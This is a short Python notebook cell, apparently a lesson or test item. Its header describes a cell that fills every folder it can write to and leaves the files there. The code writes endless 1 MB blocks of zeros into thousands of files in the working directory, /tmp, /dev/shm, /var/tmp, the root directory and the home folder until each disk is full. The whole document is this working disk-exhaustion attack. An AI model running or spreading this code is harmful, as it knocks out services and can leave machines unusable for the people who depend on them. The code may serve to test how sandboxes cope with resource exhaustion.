# what: a cell that fills every folder it can write to, and leaves the files there
# lesson: 2
# zero: none
# status: ok
# %%
import os

for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/", os.path.expanduser("~")):
    for number in range(10**4):
        try:
            with open(f"{folder}/full-{number}", "wb") as file:
                while True:
                    file.write(bytes(10**6))
        except OSError:
            if number > 3:
                break
